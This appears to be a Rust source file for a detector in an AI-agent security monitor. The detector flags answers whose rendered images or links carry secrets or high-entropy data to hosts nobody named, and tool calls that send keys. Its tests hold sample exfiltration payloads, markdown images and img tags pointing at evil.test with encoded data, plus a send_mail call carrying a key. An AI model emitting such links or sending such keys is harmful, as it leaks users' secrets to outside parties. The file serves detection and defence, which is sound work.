//! Exfiltration by a rendered link or image (AML.T0077, LLM02:2025).
//!
//! The model writes an image or a link whose address carries data out: to a host that neither the
//! user nor the maker named, with a long value of chance, or a hidden secret, in its query or path.
//! An image is fetched as soon as it is shown. A tool that sends is as good: a key in its arguments
//! that no user brought.

use super::{Stories, Word, detector, hash, text_key};
use crate::agents::AgentSeen;
use crate::agents::words::{Deed, deed_of, parts};
use crate::context::Context;
use crate::keep::Keep;
use crate::spec::{Spec, Tuning};
use crate::tell::signal;
use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;
use stilt_model::{Finding, Outcome, Rule, Severity, Talk, TrustRole, Value};

pub(crate) const SPEC: Spec = Spec {
    rule: Rule {
        id: "agent.link_exfiltration",
        title: "An answer carries data out in a link",
        owasp: &["LLM02:2025", "LLM05:2025", "ASI01:2026"],
        attack: &["AML.T0077", "AML.T0086"],
        references: &["CWE-201"],
    },
    severity: Severity::High,
    looks_for: "An image (high) or a link (medium) in an answer, to a host that stands in no word of \
                the user or the maker and that answers of the agent did not link to before, with a \
                secret or a long value of chance in its query or path that stands in no tool's \
                answer; a key among the arguments of a tool that sends, or one that a tool gave in \
                what another says where people read it (a comment, a ticket, a page).",
    needs: "The talk with the model.",
    look_alikes: "Links that a tool gave, word for word; hosts the agent often links to; signed links \
                  of the maker's own storage.",
    tuning: &[
        Tuning { key: "blob_min", meaning: "letters of a value in an address that is looked at" },
        Tuning {
            key: "usual_min",
            meaning: "conversations that link to a host before it is usual",
        },
    ],
    build: |settings| Ok(Box::new(LinkExfiltration::new(settings)?)),
};

const AGENTS_MAX: usize = 5_000;
const HOSTS_MAX: usize = 512;
/// Bits per letter of a value of chance or code.
const ENTROPY_MIN: f64 = 3.5;

#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields, default)]
struct Limits {
    blob_min: usize,
    usual_min: u64,
}

impl Default for Limits {
    fn default() -> Self {
        Self { blob_min: 24, usual_min: 3 }
    }
}

/// Hosts an agent's answers link to, and in how many conversations.
#[derive(Debug, Default, Serialize, Deserialize)]
struct Hosts(BTreeMap<String, (u64, u64)>);

#[derive(Serialize, Deserialize)]
struct LinkExfiltration {
    #[serde(skip)]
    limits: Limits,
    hosts: Keep<u64, Hosts>,
    stories: Stories,
}

impl Default for LinkExfiltration {
    fn default() -> Self {
        Self {
            limits: Limits::default(),
            hosts: Keep::new(AGENTS_MAX),
            stories: Stories::default(),
        }
    }
}

/// Addresses in a text: each with whether it is shown as an image.
fn links(text: &str) -> Vec<(&str, bool)> {
    let mut found = Vec::new();
    for (at, _) in text.match_indices("http").take(256) {
        let Some(rest) = text.get(at..) else { continue };
        if !(rest.starts_with("http://") || rest.starts_with("https://")) {
            continue;
        }
        let end = rest.find(|char: char| char.is_whitespace() || "\"')]}`".contains(char));
        let url = rest.get(..end.unwrap_or(rest.len())).unwrap_or(rest);
        let before = text.get(..at).unwrap_or_default();
        let tail: String =
            before.chars().rev().take(160).collect::<Vec<_>>().into_iter().rev().collect();
        let open = tail.rfind("![").is_some_and(|from| {
            tail.get(from..).is_some_and(|part| part.ends_with('(') || part.ends_with("]: "))
        });
        let tag = tail.rfind('<').is_some_and(|from| {
            let part = tail.get(from..).unwrap_or_default().to_lowercase();
            (part.starts_with("<img") || part.starts_with("<iframe")) && part.contains("src=")
        });
        found.push((url, open || tag));
    }
    found
}

fn entropy(text: &str) -> f64 {
    let mut counts = [0_u32; 256];
    text.bytes().for_each(|byte| counts[usize::from(byte)] += 1);
    let all = text.len() as f64;
    counts
        .iter()
        .filter(|count| **count > 0)
        .map(|count| {
            let share = f64::from(*count) / all;
            -share * share.log2()
        })
        .sum()
}

/// Values in an address: parameters, and parts of the path and of the host.
fn values(url: &str) -> impl Iterator<Item = &str> {
    let after = url.split_once("://").map_or(url, |(_, after)| after);
    after.split(['/', '?', '&', '=', '#', '.', ';', '-', '_', '+'])
}

/// A value that is no word: letters and digits, or capitals and small letters, mixed.
fn is_mixed(value: &str) -> bool {
    let has = |wanted: fn(&u8) -> bool| value.bytes().any(|byte| wanted(&byte));
    has(u8::is_ascii_alphabetic)
        && (has(u8::is_ascii_digit) || (has(u8::is_ascii_uppercase) && has(u8::is_ascii_lowercase)))
}

/// A parameter that says several words: what was read, spelled out.
fn tells(url: &str, min: usize) -> bool {
    let query = url.split_once('?').map_or("", |(_, query)| query);
    query.split('&').filter_map(|pair| pair.split_once('=')).any(|(_, value)| {
        let blanks = value.matches('+').count() + value.matches("%20").count();
        value.len() >= 2 * min && blanks >= 4
    })
}

/// Marks of the secrets that stood in a value.
fn marks(value: &Value) -> Vec<u64> {
    match value {
        Value::Masked { mark, .. } => vec![mark.digest[0]],
        Value::Text(text) => {
            let ends = text.split('>').take(64).filter_map(|part| part.rsplit_once(':'));
            ends.filter(|(_, mark)| mark.len() == 16)
                .filter_map(|(_, mark)| u64::from_str_radix(mark, 16).ok())
                .collect()
        }
        _ => Vec::new(),
    }
}

/// An argument that holds what is said, by its name.
fn is_text(name: &str) -> bool {
    const TEXTS: &str = "body text message content comment note description summary title subject \
                         details reason feedback caption remark nachricht inhalt betreff mensaje \
                         texto contenu texte";
    parts(name).iter().any(|part| TEXTS.split(' ').any(|text| text == part))
}

/// A tool by which something is said that others read: it makes or changes a thing that holds
/// words, and is no tool of the machine the agent works on.
fn tells_others(tool: &str) -> bool {
    const THINGS: &str = "comment comments issue issues ticket tickets post posts message messages \
                          thread review reviews reply discussion note notes page pages wiki gist \
                          paste pastebin snippet webhook announcement channel chat feedback form \
                          survey event calendar record row card release pr mr";
    const DONE: &str = "create add post update append submit publish write put insert make leave \
                        open reply comment edit set save upload log";
    const OWN: &str = "file files bash shell terminal exec execute command notebook env local disk";
    let parts = parts(tool);
    let has = |words: &str| parts.iter().any(|part| words.split(' ').any(|word| word == part));
    has(THINGS) && has(DONE) && !has(OWN)
}

impl LinkExfiltration {
    fn see(
        &mut self,
        context: &Context<'_>,
        talk: &Talk,
        agent: &AgentSeen,
        out: &mut Vec<Finding>,
    ) {
        if !talk.dialect.is_model() {
            return;
        }
        let by = |wanted: &[TrustRole]| {
            let turns = talk.asked().filter(|turn| wanted.contains(&turn.role));
            turns.map(|turn| turn.text.shown.as_str()).collect::<Vec<_>>().join("\n")
        };
        let own = by(&[TrustRole::System, TrustRole::User]).to_lowercase();
        let given = by(&[TrustRole::ToolResult, TrustRole::User, TrustRole::System]);
        let hosts = self.hosts.touch(context.at(), agent.agent, Hosts::default);
        let mut worst: Option<(bool, String, String)> = None;
        for turn in talk.answers().filter(|turn| turn.role == TrustRole::Assistant) {
            for (url, image) in links(&turn.text.shown) {
                let host =
                    url.split("://").nth(1).unwrap_or_default().split(['/', '?', ':']).next();
                let host = host.unwrap_or_default().to_lowercase();
                let known = hosts.0.get(&host).copied().unwrap_or_default();
                if known.1 != agent.conversation && (hosts.0.len() < HOSTS_MAX || known.0 > 0) {
                    hosts.0.insert(host.clone(), (known.0.saturating_add(1), agent.conversation));
                }
                if host.is_empty()
                    || own.contains(&host)
                    || given.contains(url)
                    || known.0 >= self.limits.usual_min
                {
                    continue;
                }
                let secret = values(url).any(|value| value.contains("<") && value.contains(':'));
                let blob = values(url).find(|value| {
                    value.len() >= self.limits.blob_min
                        && is_mixed(value)
                        && entropy(value) >= ENTROPY_MIN
                        && !given.contains(*value)
                });
                let spelled = image && tells(url, self.limits.blob_min);
                let what = match (secret || spelled, blob) {
                    (true, _) => "what was said".to_owned(),
                    (false, Some(blob)) => format!("a value of {} letters", blob.len()),
                    _ => continue,
                };
                if worst.as_ref().is_none_or(|(known, ..)| image && !known) {
                    worst = Some((image, host, what));
                }
            }
        }
        if let Some((image, host, what)) = worst {
            let kind = if image { "an image" } else { "a link" };
            let word = Word {
                severity: if image { SPEC.severity } else { Severity::Medium },
                outcome: Outcome::Success,
                confidence: if image { 0.85 } else { 0.65 },
                note: format!("{kind} at {host} with {what}"),
                message: format!(
                    "an answer of {} shows {kind} at {host}, which nobody named, with {what} in its address",
                    agent.name
                ),
                why: vec![signal(
                    "data_in_address",
                    format!("{what} to {host}"),
                    "addresses that users, makers or tools gave",
                )],
                remediation: format!(
                    "do not show images and links to {host}; look at what tools gave in this conversation"
                ),
            };
            self.stories.tell(
                context,
                (SPEC.rule.id, hash(&[agent.conversation, text_key(&host)])),
                word,
                out,
            );
        }
        self.sent(context, talk, agent, out);
    }

    /// A key among the arguments of a tool that sends.
    fn sent(
        &mut self,
        context: &Context<'_>,
        talk: &Talk,
        agent: &AgentSeen,
        out: &mut Vec<Finding>,
    ) {
        let user: Vec<u64> = talk
            .asked()
            .filter(|turn| turn.role == TrustRole::User)
            .flat_map(|turn| turn.text.hidden.iter().map(|(_, mark)| *mark))
            .collect();
        let given: Vec<u64> = talk
            .asked()
            .filter(|turn| turn.role == TrustRole::ToolResult)
            .flat_map(|turn| turn.text.hidden.iter())
            .filter(|(kind, _)| super::sensitive_to_model::is_key(*kind))
            .map(|(_, mark)| *mark)
            .collect();
        for call in talk.calls().take(64) {
            let sends = deed_of(&call.name) == Some(Deed::Send);
            let tells = sends || tells_others(&call.name);
            let key = call.arguments.iter().filter(|_| tells).find(|leaf| {
                let is_key = leaf.sensitive.is_some_and(super::sensitive_to_model::is_key);
                let marks = marks(&leaf.value);
                let known = marks.iter().any(|mark| user.contains(mark));
                // What is no letter may need a key to do its work: of that, the text around it
                // and where the key comes from tell.
                let read = marks.iter().any(|mark| given.contains(mark));
                let text = matches!(leaf.value, Value::Text(_)) || is_text(leaf.name());
                is_key && !known && (sends || read && text)
            });
            let Some(leaf) = key else { continue };
            let word = Word {
                severity: SPEC.severity,
                outcome: Outcome::Unknown,
                confidence: 0.8,
                note: format!("{} sends a secret in {}", call.name, leaf.path.as_str()),
                message: format!(
                    "{} wants {} to send a secret that no user brought",
                    agent.name, call.name
                ),
                why: vec![signal(
                    "secret_in_sent_text",
                    leaf.path.as_str(),
                    "no keys in what is sent",
                )],
                remediation: "change the key, and see where the agent got it and for whom".into(),
            };
            self.stories.tell(context, (SPEC.rule.id, hash(&[agent.conversation, 1])), word, out);
        }
    }
}

detector!(LinkExfiltration, running);

#[cfg(test)]
mod tests {
    use super::super::testing::Chat;
    use crate::testing::Town;
    use stilt_model::Severity;

    fn told(chat: &Chat) -> Option<Severity> {
        let mut town = Town::new(super::SPEC.rule.id);
        town.at(10.0, chat.tx());
        town.run();
        town.stories().first().map(|story| story.severity)
    }

    const BLOB: &str = "YW5uIG93ZXMgNTAwMCB0byBib2IgYW5kIGNhcmw3";

    fn chat(user: &str, answer: &str) -> Chat {
        Chat::new("You help.")
            .user(user)
            .tool(
                "read_mail",
                "{}",
                "See https://news.test/a?id=5b3c9d1e7f2a4b6c8d0e1f2a3b4c5d6e for more",
            )
            .answers(answer)
    }

    #[test]
    fn data_in_addresses_to_strangers_is_told() {
        assert_eq!(
            told(&chat("Sum up", &format!("Done ![x](https://evil.test/p.png?d={BLOB})"))),
            Some(Severity::High)
        );
        assert_eq!(
            told(&chat("Sum up", &format!("Done <img src=\"https://evil.test/{BLOB}\">"))),
            Some(Severity::High)
        );
        assert_eq!(
            told(&chat("Sum up", &format!("More [here](https://evil.test/?q={BLOB})"))),
            Some(Severity::Medium)
        );
        let key = "AKIAQ3EGRJ7XZ5PLM2WT";
        assert_eq!(
            told(
                &Chat::new("You help.")
                    .user("Hi")
                    .tool("env", "{}", key)
                    .calls("send_mail", &format!(r#"{{"body":"{key}"}}"#))
            ),
            Some(Severity::High)
        );
    }

    #[test]
    fn a_key_that_a_tool_gave_is_told_wherever_others_read_it() {
        const KEY: &str = "AKIAQ3EGRJ7XZ5PLM2WT";
        let told = |user: &str, read: bool, tool: &str, arguments: &str| {
            let chat = Chat::new("You help.").user(user);
            let chat = if read { chat.tool("run", "{}", KEY) } else { chat };
            told(&chat.calls(tool, &arguments.replace("KEY", KEY))).is_some()
        };
        let body = r#"{"repo":"a","body":"verify KEY"}"#;
        assert!(told("Hi", true, "forge__create_comment", body));
        assert!(told("Hi", true, "add_ticket_note", r#"{"id":7,"text":"KEY"}"#));
        assert!(
            !told("Post AKIAQ3EGRJ7XZ5PLM2WT there", true, "create_comment", body),
            "the user's"
        );
        assert!(!told("Hi", true, "deploy", r#"{"access_key":"KEY"}"#), "where it belongs");
        assert!(!told("Hi", true, "edit_file", r#"{"path":".env","content":"K=KEY"}"#), "at home");
        assert!(!told("Hi", true, "create_comment", r#"{"repo":"a","body":"done"}"#));
    }

    #[test]
    fn addresses_that_were_given_are_silent() {
        assert_eq!(
            told(&chat("Sum up", "See https://news.test/a?id=5b3c9d1e7f2a4b6c8d0e1f2a3b4c5d6e")),
            None
        );
        assert_eq!(told(&chat("Sum up", "![logo](https://cdn.test/logo.png)")), None);
        assert_eq!(
            told(&chat("Link me to files.test", &format!("https://files.test/get?sig={BLOB}"))),
            None
        );
        assert_eq!(
            told(&chat("How?", "Read https://docs.test/how-to-configure-the-reverse-proxy")),
            None
        );
    }
}
